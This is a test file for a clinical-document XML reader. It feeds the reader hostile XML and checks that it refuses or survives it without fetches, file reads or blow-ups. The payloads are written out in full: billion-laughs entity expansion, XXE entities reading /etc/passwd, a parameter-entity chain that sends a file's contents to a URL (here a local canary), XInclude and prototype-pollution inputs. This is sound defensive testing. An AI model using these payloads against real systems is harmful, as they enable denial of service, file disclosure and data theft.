// T13: hostile XML as C-CDA through the reader of documents: nothing is fetched, no file is read, nothing swells, and each ends in bounded time. The times are
// measured and printed.
import { once } from "node:events";
import net, { type AddressInfo } from "node:net";
import { afterAll, beforeAll, expect, test } from "vitest";
import { readDocuments } from "#documents/read-documents.ts";
import { allergy, clinicalDocument, coded, problem, section } from "#formats/ccda/made-up.ts";

let connections = 0;
let port = 0;
const canary = net.createServer((socket) => {
  connections += 1;
  socket.destroy();
});
const times: { what: string; ms: number }[] = [];
/** Only so that a test that hangs ends. */
const LONGEST = 60_000;

beforeAll(async () => {
  await once(canary.listen(0, "127.0.0.1"), "listening");
  port = (canary.address() as AddressInfo).port;
});
afterAll(() => {
  canary.close();
  const worst = times.toSorted((a, b) => b.ms - a.ms).slice(0, 4);
  console.log(`${times.length} documents, worst ${worst.map(({ what, ms }) => `${what} ${Math.round(ms)} ms`).join(", ")}`);
});

const GOUT = problem(coded("value", "90560007", "Gout"));
const good = clinicalDocument(section("11450-4", "Problems", "Gout", GOUT));
const head = (declaration: string) => good.replace(/^(<\?xml[^>]*>)/, `$1${declaration}`);
const inText = (words: string) => good.replace("<text>Gout</text>", `<text>${words}</text>`);
const inAttribute = (words: string) => good.replace('displayName="Gout"', `displayName="${words}"`);
const laughs = (levels: number, times: number) =>
  `<!ENTITY l0 "lol">${Array.from({ length: levels }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(times)}">`).join("")}`;
const url = (path = "x") => `http://127.0.0.1:${port}/${path}`;
const bytes = (text: string) => new TextEncoder().encode(text);
const utf16 = (text: string, mark = true) => new Uint8Array(Buffer.from(`${mark ? "\ufeff" : ""}${text}`, "utf16le"));
const big = (text: string) => new Uint8Array(Buffer.from(`\ufeff${text}`, "utf16le").swap16());
const latin1 = (text: string) => new Uint8Array(Buffer.from(text, "latin1"));
const declaring = (encoding: string, text = good) => text.replace('encoding="UTF-8"', `encoding="${encoding}"`);

async function read(what: string, content: string | Uint8Array): Promise<string> {
  const began = performance.now();
  const result = await readDocuments.read(typeof content === "string" ? bytes(content) : content, "application/xml", "x.xml", {
    uri: "s3://b/x.xml",
    patientId: "p1",
  });
  times.push({ what, ms: performance.now() - began });
  expect([what, connections]).toEqual([what, 0]);
  const text = JSON.stringify(result);
  // What stands in this machine's files, or what an entity would have swollen to.
  expect(text).not.toMatch(/lollol|:0:0:|localhost|canary/);
  expect(text.length).toBeLessThan(30_000_000);
  return text;
}

test("the document itself is read", async () => {
  expect(await read("good", good)).toContain('"Gout"');
});

const refused: readonly [string, () => string | Uint8Array][] = [
  ["a billion laughs", () => head(`<!DOCTYPE x [${laughs(9, 10)}]>`).replace(">Gout<", ">&l9;<")],
  ["a quadratic blow-up", () => head(`<!DOCTYPE x [<!ENTITY a "${"a".repeat(100_000)}">]>`).replace(">Gout<", `>${"&a;".repeat(10_000)}<`)],
  ["an entity in itself", () => head('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>').replace(">Gout<", ">&a;<")],
  ["an external file", () => head('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>').replace(">Gout<", ">&e;<")],
  [
    "an external file by a relative name",
    () => head('<!DOCTYPE x [<!ENTITY e SYSTEM "../../../../etc/hosts">]>').replace(">Gout<", ">&e;<"),
  ],
  ["an external address", () => head(`<!DOCTYPE x [<!ENTITY e SYSTEM "${url()}">]>`).replace(">Gout<", ">&e;<")],
  ["an external public entity", () => head(`<!DOCTYPE x [<!ENTITY e PUBLIC "-//X" "${url()}">]>`).replace(">Gout<", ">&e;<")],
  ["an external subset", () => head(`<!DOCTYPE ClinicalDocument SYSTEM "${url("x.dtd")}">`)],
  ["a public subset", () => head(`<!DOCTYPE ClinicalDocument PUBLIC "-//HL7//CDA" "${url("x.dtd")}">`)],
  ["parameter entities", () => head(`<!DOCTYPE x [<!ENTITY % p SYSTEM "${url("p")}"> %p; %q;]>`)],
  [
    "data sent away by parameter entities",
    () => head(`<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d "<!ENTITY &#37; s SYSTEM '${url()}?%f;'>">%d;%s;]>`),
  ],
  ["an unparsed entity", () => head(`<!DOCTYPE x [<!NOTATION n SYSTEM "${url()}"><!ENTITY e SYSTEM "${url()}" NDATA n>]>`)],
  ["attribute defaults", () => head('<!DOCTYPE x [<!ATTLIST value displayName CDATA "Plague">]>')],
  ["a declaration in lower case", () => head('<!doctype x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')],
  ["a declaration after 10,000 comments", () => head(`${"<!-- -->".repeat(10_000)}<!DOCTYPE x SYSTEM "${url()}">`)],
  ["a declaration in the middle", () => inText(`<!DOCTYPE x SYSTEM "${url()}">`)],
  ["a declaration that never ends", () => `<?xml version="1.0"?><!DOCTYPE x [${"<!ENTITY a 'b'>".repeat(200_000)}`],
  ["an entity nobody defined", () => inText("&nbsp;&xxe;")],
  ["an entity without end", () => inText("&amp".repeat(10))],
  ["a character reference to NUL", () => inText("&#0;")],
  ["a character reference out of range", () => inText("&#x110000;&#xD800;")],
  ["100,000 levels", () => inText(`${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}`)],
  ["1,500,000 levels that never end", () => "<a>".repeat(1_500_000)],
  [
    "100,000 attributes",
    () => good.replace("<text>", `<text ${Array.from({ length: 100_000 }, (_, index) => `a${index}="1"`).join(" ")}>`),
  ],
  ["one attribute 100,000 times", () => good.replace("<text>", `<text ${'a="1" '.repeat(100_000)}>`)],
  [
    "100,000 namespaces",
    () => good.replace("<text>", `<text ${Array.from({ length: 100_000 }, (_, index) => `xmlns:a${index}="u${index}"`).join(" ")}>`),
  ],
  ["1,000,000 elements", () => inText("<br/>".repeat(1_000_000))],
  ["an element cut off", () => good.slice(0, -20)],
  ["an attribute without end", () => `${good.slice(0, 400)}<a b="${"x".repeat(2_000_000)}`],
  ["a comment without end", () => inText(`<!--${"-".repeat(2_000_000)}`)],
  ["a CDATA without end", () => inText(`<![CDATA[${"]".repeat(2_000_000)}`)],
  ["an instruction without end", () => inText(`<?x ${"?".repeat(2_000_000)}`)],
  ["100,000 '<'", () => inText("<".repeat(100_000))],
  ["30 MB", () => inText("x".repeat(30_000_000))],
  ["two roots", () => `${good}${good.replace(/^<\?xml[^>]*>/, "")}`],
  [
    "an inclusion's fallback",
    () => '<?xml version="1.0"?><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
  ],
  ["UTF-16 without a mark", () => utf16(good, false)],
  ["UTF-32", () => new Uint8Array(Buffer.from(good.replace(/./gs, (letter) => `${letter}\0\0\0`)))],
  ["UTF-7", () => declaring("UTF-7").replace("<ClinicalDocument", "+ADw-ClinicalDocument")],
];

test.each(refused)("%s is refused", { timeout: LONGEST }, async (what, make) => {
  expect(await read(what, make())).toContain('"unsupported":');
});

const readAnyway: readonly [string, () => string | Uint8Array][] = [
  ["an inclusion inside", () => inText(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${url()}"/>Gout`)],
  [
    "a schema location",
    () => good.replace("<ClinicalDocument ", `<ClinicalDocument xsi:schemaLocation="urn:hl7-org:v3 ${url("cda.xsd")}" `),
  ],
  ["a style sheet", () => head(`<?xml-stylesheet type="text/xsl" href="${url("cda.xsl")}"?>`)],
  ["a reference to an address", () => inText(`<renderMultiMedia referencedObject="${url()}"/><linkHtml href="${url()}">Gout</linkHtml>`)],
  [
    "a body elsewhere",
    () =>
      good.replace(
        /<component><structuredBody>.*<\/structuredBody><\/component>/s,
        `<component><nonXMLBody><text><reference value="${url()}"/></text></nonXMLBody></component>`,
      ),
  ],
  ["a namespace that is an address", () => inText(`<x:y xmlns:x="${url()}"/>Gout`)],
  ["UTF-16 with its mark", () => utf16(declaring("UTF-16"))],
  ["big-endian UTF-16", () => big(declaring("UTF-16"))],
  ["UTF-16 that says UTF-8", () => utf16(good)],
  ["UTF-8 that says UTF-16", () => declaring("UTF-16")],
  ["UTF-8 that says Latin-1", () => declaring("ISO-8859-1", inAttribute("Goût"))],
  ["Latin-1 that says UTF-8", () => latin1(inAttribute("Go\u00fbt"))],
  ["Latin-1 that says so", () => latin1(declaring("ISO-8859-1", inAttribute("Go\u00fbt")))],
  ["Windows-1252 that says Latin-1", () => latin1(declaring("ISO-8859-1", inAttribute("Gout \u0096 toe")))],
  ["an encoding that nobody knows", () => declaring("x-klingon")],
  ["an encoding of 100,000 letters", () => declaring("u".repeat(100_000))],
  ["a CDATA full of markup", () => inText("<![CDATA[<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;<script>]]>")],
  ["10,000 problems", () => clinicalDocument(section("11450-4", "Problems", "x", ...Array.from({ length: 2_000 }, () => GOUT)))],
  ["1,000 tables in words", () => inText("<table><tr><td>a</td><td>b</td></tr></table>".repeat(1_000))],
  ["4,000,000 blanks", () => inText(" ".repeat(4_000_000))],
  ["a name of 2,000,000 letters", () => inText(`<${"n".repeat(2_000_000)}/>`)],
  ["a reference to itself", () => inText('<content ID="a"><reference value="#a"/>Gout</content>')],
  ["1,000 nested sections", () => clinicalDocument(`${"<component><section>".repeat(20)}${"</section></component>".repeat(20)}`)],
  [
    "__proto__ everywhere",
    () =>
      good
        .replace("<text>", '<__proto__ constructor="x"/><text __proto__="y" ID="__proto__">')
        .replaceAll('code="90560007"', 'code="__proto__"'),
  ],
  ["right-to-left and unseen letters", () => inAttribute("Gout\u202e\u200b\u2066")],
  ["an allergy without an agent", () => clinicalDocument(section("48765-2", "Allergies", "none", allergy("<value/>")))],
];

test.each(readAnyway)("%s ends without a fetch", { timeout: LONGEST }, async (what, make) => {
  await read(what, make());
});

test("what an encoding says wrongly is read rightly, or said to be doubtful", async () => {
  expect(await read("Latin-1 declared", latin1(declaring("ISO-8859-1", inAttribute("Go\u00fbt"))))).toContain("Goût");
  expect(await read("UTF-8 declared Latin-1", declaring("ISO-8859-1", inAttribute("Goût")))).toContain("Goût");
  expect(await read("Latin-1 declared UTF-8", latin1(inAttribute("Go\u00fbt")))).toMatch(/Goût.*Latin-1|Latin-1.*Goût/s);
  expect(await read("UTF-16", utf16(declaring("UTF-16", inAttribute("Goût"))))).toContain("Goût");
});
